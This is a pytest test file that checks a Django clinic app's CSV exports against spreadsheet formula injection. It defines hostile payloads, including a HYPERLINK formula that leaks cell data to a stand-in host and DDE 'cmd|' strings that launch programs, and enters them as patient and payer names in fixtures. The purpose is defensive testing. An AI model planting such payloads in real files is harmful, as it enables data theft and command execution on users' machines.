"""Every CSV the app writes shows what a person typed as text, never as a formula.

Typed names and notes start with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
return. Every CSV (each compliance report streamed and built in the background, by
Python's csv module and by PostgreSQL's COPY; the scheduling, billing and turnaround
CSVs) must carry them with a leading apostrophe, and no cell of any of them may start
like a formula unless it is a plain number.
"""

import csv
import io
import re
from datetime import timedelta
from decimal import Decimal
from pathlib import Path

import pytest
from django.conf import settings
from django.test import RequestFactory
from django.urls import reverse
from django.utils import timezone

from clinic.csvfile import FORMULA_STARTS, csv_cell, csv_copy_sql
from clinic.models import ReportExport
from clinic.reports import all_reports, get_report
from clinic.reports.base import Filters
from clinic.reports.csv_output import csv_lines
from clinic.reports.exports import report_export_request
from clinic.services import access_log_record
from tests.billing.factories import billed_claim, patient_with_address
from tests.registration.factories import PayerFactory

pytestmark = pytest.mark.django_db

ROOT = Path(settings.BASE_DIR)
NUMBER = re.compile(r"[+-]?[0-9]+(\.[0-9]+)?")

# Every module that writes CSV (calls the helper or answers text/csv), and where
# this file feeds it a hostile cell. A new one fails the scan below until added.
CSV_PRODUCERS = {
    "clinic/reports/csv_output.py": "test_every_report_csv_streamed_and_exported",
    "clinic/reports/exports.py": "test_every_report_csv_streamed_and_exported",
    "clinic/views/reports.py": "test_every_report_csv_streamed_and_exported",
    "scheduling/views/reports.py": "test_the_scheduling_metrics_csv",
    "billing/views/reports.py": "test_the_ar_aging_csv",
    "diagnostics/turnaround.py": "test_the_turnaround_csv",
    "diagnostics/views/reports.py": "test_the_turnaround_csv",
    "training/views.py": "test_the_pain_point_csvs",
}

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
COMMAND = "@SUM(1+1)*cmd|' /C calc'!A0"
PLUS = "+1+cmd|' /C notepad'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"
TAB = "\t=1+1"
RETURN = "\r=1+1"


def _app_sources():
    for path in sorted(ROOT.rglob("*.py")):
        relative = path.relative_to(ROOT).as_posix()
        top = relative.split("/", 1)[0]
        if top in {".venv", "tests", "var", "node_modules"} or "/migrations/" in (
            "/" + relative
        ):
            continue
        yield relative, path.read_text()


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def assert_no_formula(text: str, where: str) -> list[str]:
    """No cell starts like a formula (plain numbers aside); returns the cells."""
    cells = _cells(text)
    unsafe = [
        cell
        for cell in cells
        if cell.startswith(FORMULA_STARTS) and not NUMBER.fullmatch(cell)
    ]
    assert unsafe == [], (where, unsafe)
    return cells


def _neutralised(cells: list[str]) -> list[str]:
    return [c for c in cells if c.startswith("'") and c[1:].startswith(FORMULA_STARTS)]


def test_the_helper_neutralises_formula_starts_and_keeps_numbers():
    for text in (HYPERLINK, COMMAND, PLUS, MINUS, TAB, RETURN, "-", "+"):
        assert csv_cell(text) == "'" + text
    for text in ("Smith", "-12.50", "+15551234567", "0", "", "a=b"):
        assert csv_cell(text) == text
    assert csv_cell(None) == ""
    assert csv_cell(Decimal("-3.10")) == Decimal("-3.10")
    assert csv_cell(7) == 7


def test_no_module_writes_csv_but_through_the_helper():
    producers = set()
    for relative, text in _app_sources():
        if relative == "clinic/csvfile.py":
            continue
        assert not re.search(r"^\s*(import csv|from csv import)", text, re.M), relative
        assert "format csv" not in text.lower(), f"{relative}: COPY, not csv_copy_sql"
        if (
            "text/csv" in text
            or "csv_writer(" in text
            or "csv_response(" in text
            or "csv_copy_sql(" in text
            or "csv_chunks(" in text
        ):
            producers.add(relative)
    assert producers == set(CSV_PRODUCERS)


def test_the_copy_path_neutralises_as_python_does(monkeypatch, make_user):
    """PostgreSQL's COPY and Python's csv module write the same text for hostile
    cells, including tabs, carriage returns and plain numbers."""
    user = make_user("Nurse")
    for what in (HYPERLINK, COMMAND, PLUS, MINUS, TAB, RETURN, "-12.50", "+1", "ok"):
        access_log_record(user=user, action="view", what=what)
    report = get_report("access-log")
    assert report.text_rows(Filters()) is not None  # PostgreSQL writes these rows
    copied = "".join(csv_lines(report, Filters()))
    monkeypatch.setattr(type(report), "text_rows", lambda self, filters: None)
    written = "".join(csv_lines(report, Filters()))
    assert copied == written
    cells = assert_no_formula(copied, "access-log")
    for what in (HYPERLINK, COMMAND, PLUS, MINUS, TAB, RETURN):
        assert "'" + what in cells, what
    assert "-12.50" in cells and "+1" in cells and "ok" in cells


def test_the_copy_statement_keeps_nulls_empty():
    from django.db import connection

    sql = csv_copy_sql("SELECT NULL::text, '=1'::text, '-5'::text", columns=3)
    with connection.cursor() as cursor, cursor.cursor.copy(sql) as copy:
        text = b"".join(bytes(part) for part in copy).decode()
    assert text == ",'=1,-5\n"


@pytest.fixture
def hostile_clinic(make_user):
    """A patient, a staff member, a payer, a dose, a message and a change reason,
    each typed as a formula, so every compliance report holds one."""
    from alerts.models import Notification
    from billing.models import ClaimPayment, Remittance
    from billing.services import claim_mark_ready, claims_submit
    from medications import services as medication_services
    from medications.models import ScheduledDose
    from tests.medications.factories import MedicationOrderFactory

    nurse = make_user("Nurse", first_name=COMMAND, last_name="Nurse")
    patient = patient_with_address(family_name=HYPERLINK, given_name=PLUS)
    access_log_record(user=nurse, action="view", patient=patient, what=MINUS)
    patient._change_reason = MINUS
    patient.save()
    order = MedicationOrderFactory(patient=patient)
    dose = ScheduledDose.objects.create(order=order, due_at=timezone.now())
    medication_services.dose_hold(dose=dose, actor=nurse, reason=TAB)
    now = timezone.now()
    Notification.objects.create(
        patient=patient,
        channel="sms",
        body=RETURN,
        scheduled_for=now,
        due_at=now,
        status="sent",
    )
    from registration.models import BreakGlassGrant

    BreakGlassGrant.objects.create(
        user=nurse,
        patient=patient,
        reason="other",
        reason_text=MINUS,
        expires_at=timezone.now() + timedelta(hours=1),
    )
    claim = billed_claim(patient=patient_with_address(family_name="Payne"))
    claim_mark_ready(claim=claim, actor=None)
    claims_submit(actor=None)
    remittance = Remittance.objects.create(
        trace_number="-TRN-9",
        payer_identifier="1999999999",
        payer_name=COMMAND,
        payment_amount=Decimal("0.00"),
        file_name="era.835",
        content="",
    )
    ClaimPayment.objects.create(
        remittance=remittance,
        patient_control_number="NOT-OURS-1",
        payer_claim_number="=ICN-1",
        status_code="1",
        charge_amount=Decimal("10.00"),
        paid_amount=Decimal("0.00"),
    )
    return patient


@pytest.mark.django_db(transaction=True)
def test_every_report_csv_streamed_and_exported(
    client, admin_user, hostile_clinic, run_rq_worker
):
    """Each compliance report, streamed from its page and built in the background
    (a real worker on the reports queue), carries the typed formulas as text."""
    client.force_login(admin_user)
    slugs = [report.slug for report in all_reports() if report.exportable]
    assert len(slugs) >= 6
    exports = {}
    for slug in slugs:
        response = client.get(reverse("clinic:report-csv", args=[slug]))
        assert response.status_code == 200, slug
        streamed = b"".join(response.streaming_content).decode()
        cells = assert_no_formula(streamed, f"{slug} streamed")
        assert _neutralised(cells), f"{slug}: no hostile cell reached the CSV"
        exports[slug] = report_export_request(
            report=get_report(slug),
            filters=Filters(),
            fmt="csv",
            actor=admin_user,
            request=RequestFactory().get("/"),
        )
    run_rq_worker("reports")
    for slug, export in exports.items():
        export.refresh_from_db()
        assert export.status == ReportExport.Status.DONE, (slug, export.error)
        download = client.get(reverse("clinic:export-download", args=[export.pk]))
        assert download.status_code == 200, slug
        built = b"".join(download.streaming_content).decode()
        cells = assert_no_formula(built, f"{slug} exported")
        assert _neutralised(cells), f"{slug}: no hostile cell reached the export"


def test_the_scheduling_metrics_csv(client, make_user):
    from scheduling.models import Appointment
    from tests.scheduling.factories import (
        AppointmentFactory,
        AppointmentTypeFactory,
        ProviderFactory,
    )

    provider = ProviderFactory(name=HYPERLINK[:60])
    AppointmentFactory(
        provider=provider,
        appointment_type=AppointmentTypeFactory(name=COMMAND[:60]),
        start=timezone.now() - timedelta(days=1),
        status=Appointment.Status.COMPLETED,
    )
    client.force_login(make_user("Administrator"))
    response = client.get(reverse("scheduling:metrics"), {"format": "csv"})
    assert response["Content-Type"].startswith("text/csv")
    cells = assert_no_formula(response.content.decode(), "scheduling metrics")
    assert len(_neutralised(cells)) >= 2


def test_the_ar_aging_csv(client, make_user):
    from billing.services import claim_mark_ready, claims_submit

    claim = billed_claim(payer=PayerFactory(name="@Acme Health"))
    claim_mark_ready(claim=claim, actor=None)
    claims_submit(actor=None)
    client.force_login(make_user("Billing"))
    response = client.get(reverse("billing:reports"), {"format": "csv"})
    assert response["Content-Type"].startswith("text/csv")
    cells = assert_no_formula(response.content.decode(), "A/R aging")
    assert _neutralised(cells)


def test_the_turnaround_csv(client, make_user):
    from diagnostics import services
    from diagnostics.models import TestDefinition
    from tests.diagnostics.factories import make_order

    doctor = make_user("Clinician")
    potassium = TestDefinition.objects.get(code="K")
    potassium.name = PLUS
    potassium.save()
    order = make_order(actor=doctor, panels=(), tests=("K",))
    services.specimen_collect(
        order=order, specimen_types=["serum"], actor=make_user("Nurse")
    )
    services.results_enter(order=order, values={potassium: "4.0"}, actor=doctor)
    client.force_login(make_user("Administrator"))
    response = client.get(reverse("diagnostics:turnaround"), {"format": "csv"})
    assert response["Content-Type"].startswith("text/csv")
    cells = assert_no_formula(response.content.decode(), "turnaround")
    assert "'" + PLUS in cells


def test_the_pain_point_csvs(client, make_user):
    """Each chart's CSV goes through the helper: a week, a figure, no formula."""
    from training import pain_points

    client.force_login(make_user("Administrator"))
    slugs = [trend.slug for trend in pain_points.pain_points()]
    assert slugs
    for slug in slugs:
        response = client.get(reverse("training:pain-points"), {"csv": slug})
        assert response["Content-Type"].startswith("text/csv")
        assert_no_formula(response.content.decode(), slug)
